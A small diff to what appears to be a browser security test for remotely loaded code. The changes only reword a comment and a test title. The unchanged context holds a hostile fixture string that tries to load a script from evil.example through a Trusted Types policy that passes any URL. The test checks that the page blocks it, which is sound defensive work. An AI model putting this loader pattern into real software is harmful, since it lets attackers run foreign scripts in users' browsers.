@@ -1,7 +1,7 @@
 import { replaceEntry } from '../shop/breakRemote.ts';
 import { expect, test } from '../test.ts';
 
-/** Released code of a remote that tries to bring in other code. Each try ends with what it got. */
+/** Released code of a remote that tries to load other code. Reports the result of each attempt. */
 const hostile = `;(async () => {
   const evil = 'https://evil.example/script.js';
   const rules = { createScriptURL: (address) => address };
@@ -37,7 +37,7 @@ interface Marks {
   intruded?: boolean;
 }
 
-test('a script of a remote can neither load foreign code nor make a policy that would', async ({
+test('a remote’s script can neither load foreign code nor create a policy that allows it', async ({
   page,
   context,
   faults,
